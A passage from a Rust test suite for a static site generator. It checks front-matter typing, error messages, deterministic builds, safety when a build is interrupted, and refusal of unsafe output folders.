            "SECRET-FIXTURE_DISCUSSION",
            "SECRET-NESTED",
        ] {
            assert!(
                !text.contains(secret),
                "{rel} holds {secret} from outside the content folder"
            );
        }
    }
    assert!(
        !site.out.join("en/e").exists(),
        "the linked discussion was built"
    );
}

// ---------------------------------------------------------------------------
// Typed front-matter: the intended value or a clear error, never a silent
// reinterpretation.

#[test]
fn yes_numbers_and_dates_where_text_is_expected_stay_as_written() {
    let site = Site::built();
    site.write(
        "d/replies/typed.md",
        reply(
            "author: yes\norganisation: 42\ncountry: 0x10\nlang: en\nanswers: [1.10, 1.2]",
            "A reply in English whose fields look like other types.\n",
        ),
    );
    site.write(
        "d/replies/typed2.md",
        reply(
            "author: 1.10\norganisation: true\ncountry: 2013-07-10\nlang: en\nanswers: [\"1.1\"]",
            "Another reply in English whose fields look like other types.\n",
        ),
    );
    let run = site.build();
    assert_built(&run);
    let meta = |id: &str| {
        let doc = page(&site.out, &format!("en/d/replies/{id}/index.html"));
        text_of(
            doc.select(&sel("article header"))
                .next()
                .expect("reply header"),
        )
    };
    let typed = meta("typed");
    for shown in ["yes", "42", "0x10"] {
        assert!(
            typed.contains(shown),
            "`{shown}` not shown as written: {typed}"
        );
    }
    assert!(!typed.contains("true") && !typed.contains("16"), "{typed}");
    let typed2 = meta("typed2");
    for shown in ["1.10", "true", "2013-07-10"] {
        assert!(
            typed2.contains(shown),
            "`{shown}` not shown as written: {typed2}"
        );
    }
    // [1.10, 1.2] are questions 1.10 and 1.2, not the numbers 1.1 and 1.2.
    let on = |rel: &str| {
        page(&site.out, rel)
            .select(&sel("article[id=\"typed\"]"))
            .count()
    };
    assert_eq!(on("en/d/week-1/question-10/index.html"), 1);
    assert_eq!(on("en/d/week-1/question-2/index.html"), 1);
    assert_eq!(on("en/d/week-1/question-1/index.html"), 0);
}

#[test]
fn lists_or_maps_where_text_is_expected_are_errors() {
    bad_reply(
        reply("lang: en\nanswers: [\"1.1\"]\nauthor: [Ada, Bo]", "Body.\n"),
        &[4],
        &["single text"],
    );
    bad_reply(
        reply(
            "lang: en\nanswers: [\"1.1\"]\norganisation: {name: X}",
            "Body.\n",
        ),
        &[4],
        &["single text"],
    );
    bad_reply(
        reply("lang: en\nanswers: [[\"1.1\"]]", "Body.\n"),
        &[3],
        &["single text"],
    );
}

#[test]
fn answers_that_is_not_a_list_is_an_error_with_an_example() {
    bad_reply(
        reply("lang: en\nanswers: 1.1", "Body.\n"),
        &[3],
        &["list", "answers: ["],
    );
}

#[test]
fn group_and_question_ids_must_be_plain_numbers() {
    for (id, line) in [
        ("0x10", 5),
        ("1e1", 5),
        ("1.5", 5),
        ("-1", 5),
        ("4294967296", 5),
    ] {
        let discussion = FIXTURE_DISCUSSION.replacen("  - id: 1", &format!("  - id: {id}"), 1);
        Site::built().refuses(
            &[("d/_discussion.md", discussion.as_bytes())],
            Expect {
                file: "d/_discussion.md",
                lines: &[line],
                words: &[id, "digits"],
            },
        );
    }
    // A quoted number is the number.
    let site = Site::built();
    site.write(
        "d/_discussion.md",
        FIXTURE_DISCUSSION.replacen("  - id: 1", "  - id: \"1\"", 1),
    );
    assert_built(&site.build());
}

#[test]
fn null_where_text_is_expected_is_a_clear_error() {
    let discussion = FIXTURE_DISCUSSION.replacen(
        "group_label: week",
        "organisers: [JMDI, ~]\ngroup_label: week",
        1,
    );
    let run = Site::built().refuses(
        &[("d/_discussion.md", discussion.as_bytes())],
        Expect {
            file: "d/_discussion.md",
            lines: &[3],
            words: &["null"],
        },
    );
    assert!(
        !run.stderr.contains("Option<"),
        "Rust types leak into the message\n{}",
        run.describe()
    );
}

// ---------------------------------------------------------------------------
// Failure safety: determinism, interrupted builds, dangerous output folders.

fn build_with_threads(content: &Path, out: &Path, threads: &str) -> Run {
    let mut cmd = palabre();
    cmd.env("RAYON_NUM_THREADS", threads)
        .arg("build")
        .arg("--content")
        .arg(content)
        .arg("--output")
        .arg(out)
        .args(["--themes", THEMES]);
    Run::from_output(cmd.output().expect("run palabre"))
}

fn assert_same_files(a: &BTreeMap<String, Vec<u8>>, b: &BTreeMap<String, Vec<u8>>, what: &str) {
    let names_a: Vec<&String> = a.keys().collect();
    let names_b: Vec<&String> = b.keys().collect();
    assert_eq!(names_a, names_b, "{what}: different files");
    let differ: Vec<&String> = a.keys().filter(|k| a.get(*k) != b.get(*k)).collect();
    assert!(differ.is_empty(), "{what}: files differ: {differ:?}");
}

#[test]
fn builds_are_byte_identical_across_runs_and_thread_counts() {
    let dir = tempfile::tempdir().expect("temporary folder");
    let content = Path::new(SAMPLE_CONTENT);
    let outs: Vec<PathBuf> = ["one-a", "one-b", "two"]
        .iter()
        .map(|n| dir.path().join(n))
        .collect();
    for (out, threads) in outs.iter().zip(["1", "1", "2"]) {
        assert_built(&build_with_threads(content, out, threads));
    }
    let a = snapshot(&outs[0]);
    assert!(
        a.len() > 50,
        "the sample site is too small: {} files",
        a.len()
    );
    assert_same_files(&a, &snapshot(&outs[1]), "two builds with one thread");
    assert_same_files(&a, &snapshot(&outs[2]), "one thread and two threads");
    // A rebuild into the same folder (which may reuse earlier work) too.
    assert_built(&build_with_threads(content, &outs[2], "2"));
    assert_same_files(&a, &snapshot(&outs[2]), "a fresh build and a rebuild");
}

/// A content folder with `n` replies spread over the questions.
fn write_many_replies(site: &Site, n: usize) {
    for i in 0..n {
        let q = ["1.1", "1.2", "1.10"][i % 3];
        site.write(
            &format!("d/replies/r{i:05}.md"),
            reply(
                &format!("author: \"Person {i}\"\nlang: en\nanswers: [\"{q}\"]"),
                &format!("Contribution number {i}, in English, about the question at hand and local policy.\n"),
            ),
        );
    }
}

#[test]
fn a_killed_build_leaves_the_previous_site_intact() {
    let site = Site::built();
    let before = snapshot(&site.out);
    write_many_replies(&site, 3_000);
    let mut child = site
        .build_command(&site.out)
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .expect("start palabre");
    let start = Instant::now();
    let staging = || {
        fs::read_dir(site.dir.path())
            .expect("read")
            .flatten()
            .any(|e| {
                e.file_name()
                    .to_string_lossy()
                    .starts_with(".out.palabre-new-")
            })
    };
    // Kill it while it writes the new site (or after 100 ms if it is quick to
    // start writing); until then the output folder must stay the old one.
    let mut seen_staging = false;
    while start.elapsed() < Duration::from_secs(120) {
        if staging() {
            seen_staging = true;
            std::thread::sleep(Duration::from_millis(100));
            break;
        }
        assert!(
            child.try_wait().expect("wait").is_none(),
            "the build ended before it started writing"
        );
        assert!(
            snapshot(&site.out) == before,
            "the output folder changed before the swap"
        );
        std::thread::sleep(Duration::from_millis(20));
    }
    assert!(seen_staging, "no staging folder appeared beside the output");
    child.kill().expect("kill palabre");
    let status = child.wait().expect("wait");
    assert!(!status.success(), "the build finished before it was killed");
    assert!(
        snapshot(&site.out) == before,
        "the killed build changed the previous site"
    );

    // The next build goes through and replaces the site whole.
    let run = site.build();
    assert_built(&run);
    assert!(site.out.join("en/d/replies/r02999/index.html").is_file());
}

#[test]
fn a_build_failing_on_the_last_file_leaves_the_previous_site_intact() {
    let site = Site::built();
    write_many_replies(&site, 200);
    // Sorted last, and broken.
    site.write(
        "d/replies/zzz.md",
        reply("lang: en\nanswers: [\"9.9\"]", "Body.\n"),
    );
    let before = site.state();
    let run = site.build();
    assert_eq!(run.status.code(), Some(1), "{}", run.describe());
    assert!(
        names_line(&run.stderr, "d/replies/zzz.md", 3),
        "{}",
        run.describe()
    );
    assert!(
        site.state().files == before.files,
        "the failed build changed the previous site"
    );
}

#[test]
fn output_inside_the_content_folder_is_refused() {
    let site = Site::built();
    let before = snapshot(&site.content);
    for out in [
        site.content.join("public"),
        site.content.join("d/replies/out"),
    ] {
        let run = site.build_into(&out, &[]);
        assert_no_panic(&run);
        assert_eq!(run.status.code(), Some(1), "{}", run.describe());
        assert!(
            run.stderr.contains("inside the content folder"),
            "the message should say why\n{}",
            run.describe()
        );
        assert!(!out.exists(), "{} was created", out.display());
    }
    assert!(
        snapshot(&site.content) == before,
        "the content folder was changed"
    );
}

#[test]
fn an_output_path_that_is_a_file_is_refused() {
    let site = Site::new();
    let file = site.dir.path().join("notes.txt");
    fs::write(&file, "my notes\n").expect("write");
    for extra in [&[][..], &["--force"][..]] {
        let run = site.build_into(&file, extra);
        assert_no_panic(&run);
        assert_eq!(run.status.code(), Some(1), "{}", run.describe());
        assert!(
            run.stderr.contains("notes.txt") && run.stderr.contains("is a file"),
            "the message should name the file\n{}",
            run.describe()
        );
        assert_eq!(
            fs::read_to_string(&file).expect("read"),
            "my notes\n",
            "the file was changed"
        );
    }
}

#[test]
fn check_never_writes_even_with_hostile_input() {
    let site = Site::new();
    site.write(
        "d/replies/evil.md",
        reply("lang: en\nanswers: [\"1.1\"]", HOSTILE[0].1),
    );
    let before = snapshot(site.dir.path());
    let run = site.check(&[]);
    assert_built(&run);
    assert!(
        snapshot(site.dir.path()) == before,
        "palabre check wrote files"
    );
}
